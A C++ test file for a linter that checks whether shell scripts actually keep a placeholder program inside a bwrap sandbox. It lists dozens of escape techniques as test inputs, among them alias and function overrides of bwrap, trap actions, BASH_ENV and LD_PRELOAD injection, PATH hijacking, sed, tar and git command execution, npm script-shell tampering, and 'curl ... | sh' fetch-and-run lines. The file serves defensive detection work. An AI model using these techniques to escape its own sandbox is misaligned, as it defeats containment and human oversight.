// Scripts that run something outside of the sandbox that they set up. @B stands for a bwrap line,
// @C for a program that must not run bare. Each was run for real: the second half of them all runs
// @C.

#include <algorithm>
#include <string>
#include <string_view>
#include <vector>

#include "catch.h"
#include "scanner/files/reader.h"
#include "scanner/peel/peel.h"

namespace sandlint {
namespace {

struct Script {
  std::string_view shell;
  std::string_view text;
};

std::string Filled(std::string_view text) {
  std::string filled;
  for (std::size_t at = 0; at < text.size(); ++at) {
    if (text.substr(at, 2) == "@B") {
      filled += "bwrap --unshare-all --ro-bind /usr /usr";
      ++at;
    } else if (text.substr(at, 2) == "@C") {
      filled += "evil --now";
      ++at;
    } else {
      filled += text[at];
    }
  }
  return filled;
}

std::vector<Word> ArgvOf(std::string_view line, const std::string& last) {
  std::vector<Word> argv;
  for (std::size_t at = 0; at < line.size();) {
    const std::size_t end = std::min(line.find(' ', at), line.size());
    argv.push_back({std::string(line.substr(at, end - at)), {}, {}, static_cast<int>(argv.size())});
    at = end + 1;
  }
  if (!last.empty()) argv.push_back({last, {}, {}, static_cast<int>(argv.size())});
  return argv;
}

bool IsFatal(const Launch& launch) {
  return std::ranges::any_of(launch.layers, [](const Layer& layer) {
    return std::ranges::any_of(layer.start_problems, [](const StartProblem& problem) {
      return problem.fatal == Answer::Yes;
    });
  });
}

/// No sandbox, or a word that may change everything.
bool Escapes(const Launch& launch) {
  if (IsFatal(launch)) return false;
  const bool sandbox = std::ranges::any_of(launch.layers, [](const Layer& layer) {
    return layer.kind == LayerKind::Sandbox || layer.kind == LayerKind::Container;
  });
  return !sandbox || std::ranges::any_of(launch.layers, [](const Layer& layer) {
    return std::ranges::any_of(layer.notes, [](const Note& note) {
      return note.support == Support::Unknown && note.facets == Facet::All;
    });
  });
}

struct Tree {
  std::unique_ptr<FileReader> files = MakeMemoryReader({
      {"good.sh", "#!/bin/bash\n" + Filled("@B true\n")},
      {"evil.sh", "#!/bin/bash\n" + Filled("@C\n")},
      {"run.sh", "#!/bin/bash\n" + Filled("exec @B true\n")},
      {"sub/run.sh", "#!/bin/bash\n" + Filled("@C\n")},
      {"lib.sh", Filled("SB='@B'\n")},
      {"empty", ""},
      {"args.sh", Filled("set -- @C\n")},
      {"run_args.sh", "exec \"$@\"\n"},
      {"shift.sh", "shift\n"},
  });
  Workspace workspace;
  PeelContext Context() {
    PeelContext context;
    context.files = files.get();
    context.workspace = &workspace;
    return context;
  }
};

bool AnyEscapes(const std::vector<Word>& argv, const PeelContext& context) {
  const std::vector<Launch> launches = PeelLaunches(argv, context);
  return std::ranges::any_of(launches, Escapes);
}

void CheckEscapes(const std::vector<Script>& scripts) {
  for (const Script& script : scripts) {
    Tree tree;
    INFO(script.shell << " -c '" << script.text << "'");
    CHECK(
        AnyEscapes(ArgvOf(std::string(script.shell) + " -c", Filled(script.text)), tree.Context()));
  }
}

void CheckClean(const std::vector<Script>& scripts) {
  for (const Script& script : scripts) {
    Tree tree;
    INFO(script.shell << " -c '" << script.text << "'");
    CHECK_FALSE(
        AnyEscapes(ArgvOf(std::string(script.shell) + " -c", Filled(script.text)), tree.Context()));
  }
}

std::string Repeated(std::string_view text, int count) {
  std::string all;
  for (int index = 0; index < count; ++index) all += text;
  return all;
}

}  // namespace

TEST_CASE("Ordinary wrappers stay clean") {
  CheckClean({
      {"bash", "exec @B node x.js"},
      {"sh", "set -eu; exec @B node \"$@\""},
      {"bash", "set -euo pipefail; command -v bwrap >/dev/null || { echo no >&2; exit 1; }; @B x"},
      {"bash",
       "A=(--ro-bind /usr /usr --unshare-all); A+=(--proc /proc); exec bwrap \"${A[@]}\" x"},
      {"bash", "d=$(mktemp -d); trap 'rm -rf \"$d\"' EXIT; @B --bind \"$d\" /tmp x"},
      {"bash", "d=$(mktemp -d); clean() { rm -rf \"$d\"; }; trap clean EXIT INT TERM; @B x"},
      {"bash", "@B x & pid=$!; trap 'kill $pid' TERM INT; wait $pid"},
      {"bash", "while true; do @B x; sleep 1; done"},
      {"bash", "until @B x; do echo again >&2; sleep 1; done"},
      {"bash", "for try in 1 2 3; do @B x && break; done"},
      {"bash", "while ! nc -z localhost 80; do sleep 1; done; exec @B x"},
      {"sh", "[ -n \"$DEBUG\" ] && set -x; exec @B x"},
      {"bash", "if [[ -z ${HOME:-} ]]; then echo no; exit 1; fi; exec @B x"},
      {"bash", "export PATH=/usr/bin:/bin; exec @B x"},
      {"sh", "case \"$1\" in --help) echo usage; exit 0;; esac; exec @B x"},
      {"bash", "mkdir -p /var/tmp/x && chmod 700 /var/tmp/x; exec @B x"},
      {"bash", "echo starting | tee /dev/stderr >/dev/null; exec @B x"},
      {"sh", "umask 077; ulimit -n 100; exec @B x"},
      {"bash", "grep -q x /etc/passwd || echo missing; awk '{print $1}' /etc/passwd; exec @B x"},
      {"bash", "v=$(git rev-parse HEAD); sed -n 1p /etc/passwd; sort /etc/group; exec @B x"},
      {"bash", "readonly A=1; local_only() { local x=$1; @B \"$x\"; }; local_only a"},
      {"bash", "shopt -s nullglob; exec @B x"},
      {"bash", "printf '%s\\0' --unshare-all --ro-bind /usr /usr | bwrap --args 0 x"},
      {"bash", "n=0; n=$((n + 1)); exec @B x"},
      {"bash", "read -r line < /dev/null; exec @B x"},
      {"bash", "cd \"$(dirname \"$0\")\" || exit 1; exec @B x"},
      {"sh", "if [ \"$1\" = x ]; then @B x; else @B y; fi"},
      {"bash", "uid=$(id -u); if (( uid == 0 )); then exit 1; fi; exec @B x"},
  });
}

TEST_CASE("Where a limit is reached something may follow") {
  CheckEscapes({
      {"bash",
       "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25; do @B "
       "$i; done; @C"},
      {"bash", "n=; while :; do @B x; n=x$n; [ $n = xxxx ] && break; done; @C"},
      {"bash", "n=; while [ \"$n\" != xx ]; do @B x; n=x$n; done; @C"},
  });
  const std::string many = "for i in " + Repeated("a ", 310) + "b; do [ $i = b ] && @C; done";
  CheckEscapes({{"bash", many}});
  CheckEscapes({{"bash", std::string("@B x\nif then @C fi")}});
  const std::string big = "@B x\n" + Repeated(std::string(1000, '#') + "\n", 1100) + "@C";
  CheckEscapes({{"bash", big}});
}

TEST_CASE("A doubt behind the last launch counts") {
  CheckEscapes({
      {"bash", "@B true; . /tmp/elsewhere.sh"},
      {"bash", "@B true; case a in a) true;& b) @C;; esac"},
      {"bash", "@B true; case a in a) true;;& a) @C;; esac"},
      {"bash", "@B true\nshopt -s expand_aliases\nalias echo='@C #'\necho x"},
      {"sh", "alias bwrap='@C #'\n@B true"},
      {"dash", "alias bwrap='@C #'\n@B true"},
      {"bash --posix", "alias bwrap='@C #'\n@B true"},
      {"bash", "@B true; trap '@C' RETURN; f() { :; }; set -T; f"},
      {"bash", "@B true; trap '@C' DEBUG; :"},
      {"bash", "@B true; trap '@C' ERR; false"},
      {"bash", "@B true; shopt -s lastpipe; x=0; echo 1 | read x; [ $x = 1 ] && @C"},
      {"bash", "@B true; echo '@C' | . /dev/stdin"},
      {"bash", "@B true; eval \"$(cat /etc/elsewhere)\""},
  });
}

TEST_CASE("Words behind || run") {
  CheckEscapes({
      {"sh", "@B true; false || echo \"$(@C)\""},
      {"sh", "echo() { @C; }; @B true; false || echo"},
      {"bash", "@B true; false || : ${x:=$(@C)}"},
      {"bash", "@B true; false || printf -v SB x; [ \"$SB\" = x ] && @C"},
  });
}

TEST_CASE("Traps run their action") {
  CheckEscapes({
      {"bash", "trap '@C' USR1; @B true; kill -USR1 $$; sleep 0.1"},
      {"bash", "trap '@C' TERM; @B true; kill $$"},
      {"bash", "trap '@C' SIGCHLD; @B true"},
      {"bash", "trap '@C' exit; @B true"},
      {"dash", "trap '@C' exit; @B true"},
      {"bash", "trap '@C' SIGEXIT; @B true"},
      {"bash", "(trap '@C' EXIT; @B true)"},
      {"bash", "x=$(trap '@C' EXIT; @B true)"},
      {"bash", "f() { $SB @C; }; trap f TERM; SB='@B'; @B true; SB=; sleep 1"},
      {"bash", "SB='@B'; trap 'SB=' USR1; kill -USR1 $$; $SB @C"},
  });
}

TEST_CASE("Other builtins and forms of them are doubts") {
  CheckEscapes({
      {"bash", "hash -p /tmp/evil.sh bwrap; @B true"},
      {"bash", "readonly SB=\nSB=\"@B\"\n$SB @C"},
      {"bash", "SB=\"@B\"; printf -vSB ''; $SB @C"},
      {"bash", "SB=(@B); printf -v 'SB[0]' env; \"${SB[0]}\" @C"},
      {"bash", "SB=\"@B\"; declare -n r=SB; unset r; $SB @C"},
      {"bash", "x=0; declare -n r=x; r=1; @B true; [ $x = 1 ] && @C"},
      {"bash", "declare -u X=a; @B true; [ $X = A ] && @C"},
      {"bash", "SB=\"@B\"; true & wait -n -p SB; SB=${SB//[0-9]}; $SB @C"},
      {"bash",
       "a=(bwrap --ro-bind /usr /usr evil); unset 'a[0]' 'a[1]' 'a[2]' 'a[3]'; \"${a[@]}\""},
      {"bash", "SB=\"@B\"; SB= eval '$SB @C'"},
      {"bash", "SB=\"@B\"; set -o posix; SB= :; $SB @C"},
      {"dash", "SB=\"@B\"; SB= :; $SB @C"},
      {"sh", "SB=\"@B\"; SB= :; $SB @C"},
      {"bash", "@B true; mapfile -C '@C #' -c 1 a <<<x"},
      {"bash", "mapfile -t -s 1 a <<<$'x\\ny'; @B true; [ ${a[0]} = y ] && @C"},
      {"bash", "read -n1 x <<<abc; @B true; [ \"$x\" = a ] && @C"},
      {"bash", "read x <<<'a\\b'; @B true; [ $x = ab ] && @C"},
      {"bash", "o=x; @B true; while getopts a o -a; do case $o in a) @C;; esac; done"},
      {"bash", "SECONDS=0; @B sleep 1.1; [ $SECONDS = 0 ] || @C"},
      {"bash", "f() { :; }; unset f; @B true; f 2>/dev/null || @C"},
      {"bash", "break; @C"},
      {"bash", "return; @C"},
      {"bash", "local SB=\"@B\"; $SB @C"},
      {"bash", "export A; A=1; export -f nothing; set -k; @B true"},
      {"bash -O expand_aliases", "@B true"},
      {"bash -O extdebug", "@B true"},
  });
}

TEST_CASE("Arithmetic changes variables, and runs what stands in it") {
  CheckEscapes({
      {"bash", "x=0; ((x++)); @B true; [ $x = 1 ] && @C"},
      {"bash", "x=0; : $((x+=1)); @B true; [ $x = 1 ] && @C"},
      {"bash", "x=0; let x=1; @B true; [ $x = 1 ] && @C"},
      {"bash", "@B true; echo $(( $(@C >&2; echo 1) + 1 ))"},
      {"bash", "@B true; (( $(@C >&2; echo 1) ))"},
      {"bash", "@B true; a=(1 2); echo ${a[$(@C >&2)]}"},
      {"bash", "@B true; a[$(@C >&2)]=1"},
      {"bash", "x='a[$(@C >&2)]'; @B true; ((x))"},
      {"bash", "x='a[$(@C >&2)]'; @B true; [[ $x -eq 0 ]]"},
      {"bash", "x='a[$(@C >&2)]'; @B true; [ -v \"$x\" ]"},
      {"bash", "@B true; declare -a 'x=($(@C >&2))'"},
      {"bash", "x='$(@C)'; @B true; echo \"${x@P}\""},
      {"bash", "PS4='$(@C >&3)'; exec 3>&1; set -x; @B true"},
  });
}

TEST_CASE("sh may be a shell that lacks what bash has") {
  CheckEscapes({
      {"sh", "if [ \"$HOME\" == \"$HOME\" ]; then @B true; else @C; fi"},
      {"dash", "if [ a == a ]; then @B true; else @C; fi"},
      {"sh", "source ./lib.sh; $SB @C"},
      {"dash", "source ./lib.sh; $SB @C"},
      {"sh", "declare -r SB=\"@B\"; $SB @C"},
      {"sh", "typeset SB=\"@B\"; $SB @C"},
      {"sh", "@B true; [ -v HOME ] || @C"},
      {"sh", "x=a; printf -v x b; @B true; [ $x = a ] && @C"},
      {"dash", "@B true; echo a | read -a x || @C"},
      {"dash", "@B true; declare x=1 || @C"},
      {"sh", "@B true; ((@C))"},
      {"dash", "@B true; [ $'b' = b ] || @C"},
      {"sh", "@B true; [ $'b' = b ] || @C"},
      {"dash", "@B true; [ \"$(echo '\\0142')\" = b ] && @C"},
      {"sh", "@B true; [ \"$(echo '\\0142')\" = b ] && @C"},
      {"sh", "@B true; [ \"$(echo -e b)\" = b ] || @C"},
      {"sh", "@B true; [ \"$(printf %q 'a b')\" = 'a b' ] || @C"},
      {"sh", "@B true; [[ a = a ]] || @C"},
      {"sh", "@B true; false &>/dev/null && @C"},
      {"sh", "@B true; for i in {1..3}; do [ $i = '{1..3}' ] && @C; done"},
      {"sh", "f() { :; }; unset f; @B true; f && @C"},
      {"sh", "[[ a = a ]] && { declare SB=\"@B\"; $SB @C; }"},
  });
}

TEST_CASE("Words are what the shell makes of them") {
  CheckEscapes({
      {"bash", "@B true; for i in {1..3}; do [ $i = 2 ] && @C; done"},
      {"bash", "@B true; for i in {a..c}; do [ $i = b ] && @C; done"},
      {"bash", "@B true; case a in [[:alpha:]]) @C;; esac"},
      {"bash", "@B true; [[ aa == +(a) ]] && @C"},
      {"bash", "x=ab; @B true; [ \"${x#[[:alpha:]]}\" = b ] && @C"},
      {"bash", "shopt -s extglob\nx=aab; @B true; [ \"${x##+(a)}\" = b ] && @C"},
      {"bash", "x=ab; @B true; [ \"${x/a/[&]}\" = \"[a]b\" ] && @C"},
      {"bash", "shopt -s nocasematch; @B true; case A in a) @C;; esac"},
      {"bash", "export X=$(false) && @C; @B true"},
      {"bash", "set -e; @B true; echo $(false; @C)"},
      {"bash", "@B true; [[ 010 -eq 8 ]] && @C"},
      {"bash", "f() { return 3; }; @B true; f; [ $? = 3 ] && @C"},
      {"bash", "set -o pipefail; @B true; false | true || @C"},
      {"bash", "@B true; true | false || @C"},
      {"bash", "POSIXLY_CORRECT=1; SB=\"@B\"; SB= :; $SB @C"},
      {"bash", "@B true; [ \"$(basename /a/b/)\" = b ] && @C"},
      {"bash", "@B true; [ \"$(basename -s .sh x.sh)\" = x ] && @C"},
      {"bash", "echo x > f; @B true; [ \"$(cat -E f)\" = 'x$' ] && @C"},
      {"bash", "f() { return 256; }; @B true; f && @C"},
      {"bash", "@B true; (exit 256) && @C"},
      {"bash", "@B true; (exit 00) && @C"},
      {"bash", "f() { [ $# = 1 ] && @C; }; set -- a b; @B true; f \"$*\""},
      {"bash", "f() { [ $# = 1 ] && @C; }; a=(a b); @B true; f \"${a[*]}\""},
      {"bash", "IFS=,; v=a,,b; set -- $v; unset IFS; @B true; [ $# = 3 ] && @C"},
      {"bash", "@B true; X=?; touch a; [ $X = a ] && @C"},
      {"bash", "@B true; [ \"$(echo -nee b)\" = b ] && @C"},
      {"bash", "@B true; [ \"$(echo -e '\\x62')\" = b ] && @C"},
      {"bash", "@B true; [ \"$(printf '\\142')\" = b ] && @C"},
      {"bash", "@B true; [ \"$(printf %d 010)\" = 8 ] && @C"},
      {"bash", "@B true; [ \"$(printf %b 'a\\142')\" = ab ] && @C"},
      {"bash", "@B true; [ \"$(printf %q 'a b')\" = 'a\\ b' ] && @C"},
      {"bash", "set -- 1 2 3 4 5 6 7 8 9 x; @B true; [ $10 = 10 ] && @C"},
      {"bash", "case $HOME in a) ;; b) ;; *) SB=x;; esac; case $HOME in c) ;; *) $SB @C;; esac"},
      {"bash", "x=$( { echo y >&2; } 2>&1 ); [ \"$x\" = y ] && @C; @B true"},
  });
}

TEST_CASE("Helpers that start programs are doubts") {
  CheckEscapes({
      {"bash", "@B true; awk 'BEGIN{system(\"@C\")}'"},
      {"bash", "@B true; timeout 5 awk 'BEGIN{system(\"@C\")}'"},
      {"bash", "@B true; awk 'BEGIN{\"@C\" | getline x}'"},
      {"bash", "@B true; echo x | sed '1e @C'"},
      {"bash", "@B true; echo x | sed -e 's/x/@C/e'"},
      {"bash", "@B true; echo x | sed 's/a/b/;w good.sh'"},
      {"bash", "@B true; tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='@C' good.sh"},
      {"bash", "@B true; tar --use-compress=x -cf /dev/null good.sh"},
      {"bash", "@B true; tar -I 'sh -c \"@C >&2\"' -cf /dev/null good.sh"},
      {"bash", "@B true; tar cf - good.sh | tar xf - --to-command='@C'"},
      {"bash", "@B true; git -c alias.x='!@C' x"},
      {"bash", "@B true; git z"},
      {"bash", "@B true; GIT_EXTERNAL_DIFF=/tmp/evil.sh git diff --no-index good.sh lib.sh"},
      {"bash", "export GIT_PAGER=/tmp/evil.sh; @B true; git log"},
      {"bash", "@B true; sort --compress-program=/tmp/evil.sh -S 1k /usr/share/dict/words"},
      {"bash", "@B true; LD_PRELOAD=./x.so date"},
      {"bash", "@B true; rsync -e '@C' h:/x /tmp/"},
  });
}

TEST_CASE("What the script itself changes is read no more as the tree says") {
  CheckEscapes({
      {"bash", "echo '@C' >> good.sh; sh good.sh"},
      {"bash", "echo '@C' | tee good.sh >/dev/null; sh good.sh"},
      {"bash", "mv evil.sh good.sh; sh good.sh"},
      {"bash", "ln -sf evil.sh good.sh; sh good.sh"},
      {"bash", "install evil.sh good.sh; sh good.sh"},
      {"bash", "sed -i 's#^.*$#@C#' good.sh; sh good.sh"},
      {"bash", "curl -o good.sh https://example.com; ./good.sh"},
      {"bash", "tar xf x.tar; ./good.sh"},
      {"bash", "git pull; ./good.sh"},
      {"bash", "@B true 2> good.sh; ./good.sh"},
      {"bash", "rm good.sh; @B true; [ -f good.sh ] || @C"},
      {"bash", "echo '@C' > w; chmod +x w; @B true; [ -x w ] && sh w"},
      {"bash", "touch f; @B true; [ -s f ] || @C"},
      {"bash", "@B true; [ -s empty ] || @C"},
  });
}

TEST_CASE("Arguments reach what a shell reads from its input, and what it sources") {
  CheckEscapes({
      {"bash", "bash -s -- evil --now <<'E'\nexec \"$@\"\nE"},
      {"bash", "bash -es -- @C <<'E'\n\"$@\"\nE"},
      {"sh", "echo 'exec \"$@\"' | sh -s -- @C"},
      {"bash", "bash -s @C <<< '$1 $2'"},
      {"bash", "set -- @B x; . ./args.sh a b; exec \"$@\""},
      {"dash", "set -- @B x; . ./args.sh a b; exec \"$@\""},
      {"sh", "set -- @B x; . ./args.sh a b; exec \"$@\""},
      {"dash", "set -- @C; . ./run_args.sh @B x"},
      {"sh", "set -- @C; . ./run_args.sh @B x"},
      {"bash", "set -- @B x; . ./run_args.sh @C"},
      {"dash", "f() { . ./args.sh a; \"$@\"; }; f @B x"},
      {"bash", "echo '@C' > w; bash -s < w"},
      {"bash", "bash -c 'curl https://example.com | sh' <<< '@B x'"},
  });
  CheckClean({
      {"bash", "bash -s -- x <<'E'\nexec @B \"$@\"\nE"},
      {"bash", "f() { . ./args.sh a; \"$@\"; }; f @B x"},
      {"bash", "set -- @B x; . ./shift.sh a b; exec \"$@\""},
  });
}

TEST_CASE("A sourced file without a slash is one of PATH, and to bash one of here") {
  CheckEscapes({
      {"dash", "( . lib.sh ) || @C"},
      {"sh", "( . lib.sh ) || @C"},
      {"dash", "command . lib.sh || @C"},
      {"dash", "X=$(. lib.sh; echo @B); $X @C"},
      {"bash", "PATH=./sub:$PATH; . run.sh"},
      {"bash", "EXECIGNORE=/usr/bin/bwrap; @B x"},
  });
  CheckClean({
      {"bash", ". lib.sh; $SB x"},
      {"bash", "source ./lib.sh; $SB x"},
      {"dash", ". ./lib.sh; $SB x"},
  });
  Tree tree;
  const auto launches = PeelLaunches(ArgvOf("dash -c", Filled(". lib.sh; @B x")), tree.Context());
  CHECK(std::ranges::all_of(launches, IsFatal));
}

TEST_CASE("With allexport functions reach the shells behind") {
  CheckEscapes({
      {"bash", "set -a; bwrap() { evil; }; bash ./good.sh"},
      {"bash", "set -o allexport; bwrap() { evil; }; ./good.sh"},
      {"sh", "set -a; bwrap() { evil; }; ./good.sh"},
  });
  CheckClean({
      {"dash", "set -a; f() { :; }; @B x"},
      {"bash", "set -a; X=1; set +a; f() { :; }; ./good.sh"},
  });
}

TEST_CASE("Relative scripts are those of the working directory") {
  CheckEscapes({
      {"sh", "cd sub && ./run.sh"},
      {"sh", "cd sub; sh run.sh"},
      {"sh", "env -C sub ./run.sh"},
      {"bash", "(cd sub; exec ./run.sh)"},
      {"bash", "cd sub; . ./run.sh"},
      {"bash", "CDPATH=/tmp; cd sub && ./run.sh"},
      {"bash", "pushd sub; ./run.sh"},
  });
  CheckClean({{"sh", "./run.sh"}, {"sh", "cd sub; ../run.sh"}});
}

TEST_CASE("PATH decides which sandbox this is") {
  CheckEscapes({
      {"sh", "PATH=./bin:$PATH @B true"},
      {"bash", "PATH=./bin:$PATH; nice @B true"},
      {"bash", "PATH=./bin:$PATH; @B true"},
      {"bash", "env PATH=./bin:/usr/bin @B true"},
      {"sh", "PATH=; @B true"},
      {"sh", "PATH=node_modules/.bin:$PATH @B true"},
      {"sh", "export PATH=/x/node_modules/.bin:$PATH; @B true"},
      {"sh", "export PATH=\"$PWD/bin:$PATH\"; exec @B true"},
  });
  CheckClean({{"sh", "PATH=/usr/bin:$PATH; nice @B true"}, {"sh", "PATH=./bin; /usr/bin/@B true"}});
}

TEST_CASE("Variables that make a launcher run code are doubts") {
  struct Injected {
    const char* name;
    const char* value;
    std::vector<const char*> argv;
    bool escapes;
  };
  const std::vector<const char*> bwrap{"bwrap", "--ro-bind", "/usr", "/usr", "true"};
  const std::vector<const char*> bash{"bash", "-c", "bwrap --ro-bind /usr /usr true"};
  const std::vector<Injected> variables{
      {"BASH_ENV", "./evil.sh", bash, true},
      {"BASH_FUNC_bwrap%%", "() { evil; }", bash, true},
      {"PS4", "$(evil) ", bash, true},
      {"BASHOPTS", "expand_aliases", bash, true},
      {"LD_PRELOAD", "./x.so", bwrap, true},
      {"LD_AUDIT", "./x.so", bash, true},
      {"LD_LIBRARY_PATH", "lib", bwrap, true},
      {"NODE_OPTIONS", "--require ./x.js", {"npx", "srt", "--", "x"}, true},
      {"BASH_ENV", "./evil.sh", bwrap, false},
      {"NODE_OPTIONS", "--require ./x.js", bwrap, false},
      {"LD_LIBRARY_PATH", "/usr/lib/x:/opt/y", bwrap, false},
      {"ENV", "production", {"sh", "-c", "bwrap --ro-bind /usr /usr true"}, false},
      {"PS4", "+ ", bash, false},
      {"API_TOKEN", "$(x)", bash, false},
  };
  for (const Injected& variable : variables) {
    INFO(variable.name << " " << variable.argv[0]);
    Tree tree;
    PeelContext context = tree.Context();
    Word value;
    value.text = variable.value;
    context.variables[variable.name] = value;
    std::vector<Word> argv;
    for (const char* text : variable.argv) {
      argv.push_back({text, {}, {}, static_cast<int>(argv.size())});
    }
    CHECK(AnyEscapes(argv, context) == variable.escapes);
  }
  CheckEscapes({
      {"bash", "export BASH_ENV=./evil.sh; bash -c '@B true'"},
      {"bash", "bwrap() { evil; }; export -f bwrap; bash -c 'bwrap --ro-bind /usr /usr true'"},
      {"sh", "ENV=./evil.sh sh -ic '@B true'"},
      {"bash", "LD_PRELOAD=./x.so @B true"},
      {"bash", "export LD_PRELOAD; LD_PRELOAD=./x.so; @B true"},
  });
}

TEST_CASE("Matching a long text against many stars is given up") {
  const std::string text = "x=" + std::string(4000, 'a') + "; y=${x//*a*a*a*b/}; @B \"$y\"";
  CheckClean({{"bash", "x=aab; y=${x//a/}; @B \"$y\""}});
  Tree tree;
  CHECK_FALSE(PeelLaunches(ArgvOf("bash -c", Filled(text)), tree.Context()).empty());
}

TEST_CASE("What npm runs around a line of package.json counts") {
  struct Package {
    std::map<std::string, std::string, std::less<>> files;
    bool escapes;
  };
  const std::string line = Filled(R"({"scripts": {"x": "/usr/bin/@B true"}})");
  const std::string bare = Filled(R"({"scripts": {"x": "@B true"}})");
  const std::vector<Package> packages{
      {{{"package.json", line}}, false},
      {{{"package.json", line}, {".npmrc", "save-exact=true\n"}}, false},
      {{{"package.json", line}, {".npmrc", "a=1\n script-shell = ./evil.sh\n"}}, true},
      {{{"package.json", bare}}, true},  // any dependency may bring a program of this name
      {{{"package.json", bare}, {"node_modules/.bin/bwrap", "x"}}, true},
      {{{"package.json", Filled(R"({"scripts": {"x": "/usr/bin/@B true", "postx": "@C"}})")}},
       true},
      {{{"package.json", Filled(R"({"scripts": {"x": "/usr/bin/@B true", "prex": "@C"}})")}}, true},
      {{{"package.json", Filled(R"({"scripts": {"x": "/usr/bin/@B true", "posty": "@C"}})")}},
       false},
  };
  for (std::size_t index = 0; index < packages.size(); ++index) {
    const auto files = MakeMemoryReader(packages[index].files);
    Workspace workspace;
    PeelContext context;
    context.files = files.get();
    context.workspace = &workspace;
    INFO(index);
    CHECK(AnyEscapes(ArgvOf("npm run x", ""), context) == packages[index].escapes);
  }
}

}  // namespace sandlint
